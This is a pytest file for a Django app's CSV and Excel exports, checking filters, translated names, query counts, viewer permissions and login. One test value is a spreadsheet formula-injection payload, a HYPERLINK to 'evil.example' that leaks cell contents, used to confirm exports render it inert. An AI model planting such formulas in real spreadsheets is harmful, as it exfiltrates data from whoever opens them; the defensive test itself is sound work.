"""List pages export what they show: the countries, teams, activities and indicator values pages give
their rows under the current filters as CSV and XLSX, names in the reader's language (a right-to-left
sheet in Arabic), text cells never a formula, in a bounded number of queries, and no more than the
reader may see."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from agencies.models import Agency
from results.models import Indicator, IndicatorValue
from workplans.models import Output

from ..factories import make_activity, make_team, make_user, make_workplan
from ..results.conftest import make_periods

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click me")'


@pytest.fixture
def viewer(client):
    client.force_login(make_user("viewer"))
    return client


def read_csv(response) -> list[list[str]]:
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def read_xlsx(response):
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return load_workbook(io.BytesIO(response.content)).active


@pytest.fixture
def activities(cambodia, chad):
    plan = make_workplan(cambodia, 2026)
    other = make_workplan(chad, 2026)
    make_activity(plan, title=FORMULA, budget_required=Decimal("1000"))
    make_activity(plan, title="Nutrition survey", lead_agency=Agency.objects.get(acronym="UNICEF"))
    make_activity(other, title="Chad activity")
    return plan, other


def test_list_pages_link_their_exports_with_the_query_string(viewer, activities):
    for url in (
        "/countries/?region=",
        "/teams/?country=KHM",
        "/workplans/activities/?title=survey",
        "/results/values/",
    ):
        body = viewer.get(url).content.decode()
        query = url.split("?", 1)[1] if "?" in url else ""
        assert "Download CSV" in body and "Download Excel" in body
        if query:
            assert f"?{query.replace('&', '&amp;')}&amp;export=csv" in body
        else:
            assert "?export=csv" in body and "?export=xlsx" in body


def test_activities_export_respects_filters_and_neutralises_formulas(viewer, activities):
    rows = read_csv(viewer.get("/workplans/activities/", {"team": activities[0].team_id, "export": "csv"}))
    header, body = rows[0], rows[1:]
    assert header[:3] == ["Activity", "Team", "Year"]
    titles = [row[0] for row in body]
    assert sorted(titles) == sorted(["'" + FORMULA, "Nutrition survey"])  # not Chad's, the formula inert
    only = read_csv(viewer.get("/workplans/activities/", {"title": "survey", "export": "csv"}))
    assert [row[0] for row in only[1:]] == ["Nutrition survey"]
    sheet = read_xlsx(viewer.get("/workplans/activities/", {"team": activities[0].team_id, "export": "xlsx"}))
    cells = [sheet.cell(row=r, column=1) for r in range(2, sheet.max_row + 1)]
    formula_cell = next(cell for cell in cells if cell.value == FORMULA)
    assert formula_cell.data_type == "s"  # text, not a formula
    assert not sheet.sheet_view.rightToLeft


def test_teams_and_countries_export_the_filtered_rows_in_the_readers_language(viewer, cambodia, chad):
    rows = read_csv(viewer.get("/teams/", {"country": "TCD", "export": "csv"}))
    assert [row[0] for row in rows[1:]] == [chad.name]
    assert rows[0][:3] == ["Team", "Kind", "Country"]
    rows = read_csv(viewer.get("/countries/", {"export": "csv"}))
    names = [row[0] for row in rows[1:]]
    assert "Chad" in names and "Antarctica" not in names
    viewer.post("/i18n/setlang/", {"language": "fr", "next": "/"})
    rows = read_csv(viewer.get("/countries/", {"export": "csv"}))
    assert rows[0][0] == "Pays" and "Tchad" in [row[0] for row in rows[1:]]
    viewer.post("/i18n/setlang/", {"language": "ar", "next": "/"})
    sheet = read_xlsx(viewer.get("/countries/", {"export": "xlsx"}))
    assert sheet.sheet_view.rightToLeft
    assert "تشاد" in [sheet.cell(row=r, column=1).value for r in range(2, sheet.max_row + 1)]
    translation.activate("en")


def test_exports_take_a_bounded_number_of_queries(viewer, cambodia, django_assert_max_num_queries):
    plan = make_workplan(cambodia, 2026)
    for n in range(30):
        activity = make_activity(plan, title=f"Activity {n}")
        activity.participating_agencies.set(Agency.objects.filter(acronym__in=["WHO", "FAO"]))
    make_team("TCD")
    for url in ("/workplans/activities/", "/teams/", "/countries/"):
        viewer.get(url, {"export": "csv"})  # warm the session and caches
        with django_assert_max_num_queries(20):
            response = viewer.get(url, {"export": "xlsx"})
        assert response.status_code == 200
        with django_assert_max_num_queries(25):
            page = viewer.get(url)  # the page itself, 50 rows of it
        assert page.status_code == 200


@pytest.fixture
def values(cambodia, chad):
    mid, _annual = make_periods()
    rows = {}
    for team, title in ((cambodia, "Children treated for wasting"), (chad, "Chad children treated")):
        plan = make_workplan(team, 2026)
        output = Output.objects.create(workplan=plan, title="Output", position=1)
        indicator = Indicator.objects.create(output=output, title=title, unit="number")
        approved = IndicatorValue.objects.create(
            indicator=indicator, period=mid, value=Decimal("120"), status="approved"
        )
        waiting = IndicatorValue.objects.create(indicator=indicator, period=mid, value=Decimal("130"), sex="female")
        rows[team.pk] = (approved, waiting)
    return rows


def test_indicator_values_a_viewer_gets_approved_values_only(client, values, cambodia, chad):
    client.force_login(make_user("viewer"))
    rows = read_csv(client.get("/results/values/", {"export": "csv"}))
    statuses = {(row[0], row[5], row[7]) for row in rows[1:]}
    assert statuses == {(cambodia.name, "120", "Approved"), (chad.name, "120", "Approved")}
    # Cambodia's focal point also sees Cambodia's value awaiting approval, not Chad's.
    client.force_login(make_user("focal_point", cambodia))
    rows = read_csv(client.get("/results/values/", {"export": "csv"}))
    seen = {(row[0], row[5]) for row in rows[1:]}
    assert seen == {(cambodia.name, "120"), (cambodia.name, "130"), (chad.name, "120")}
    rows = read_csv(client.get("/results/values/", {"team": chad.pk, "export": "csv"}))
    assert {(row[0], row[5]) for row in rows[1:]} == {(chad.name, "120")}
    page = client.get("/results/values/")
    assert page.status_code == 200 and "130" in page.content.decode()


def test_indicator_values_export_queries_are_bounded(client, values, django_assert_max_num_queries):
    client.force_login(make_user("secretariat"))
    client.get("/results/values/", {"export": "csv"})
    with django_assert_max_num_queries(15):
        response = client.get("/results/values/", {"export": "xlsx"})
    assert read_xlsx(response).max_row == 5
    with django_assert_max_num_queries(20):
        assert client.get("/results/values/").status_code == 200


def test_exports_need_signing_in(client):
    response = client.get(reverse("workplans:activities"), {"export": "csv"})
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]
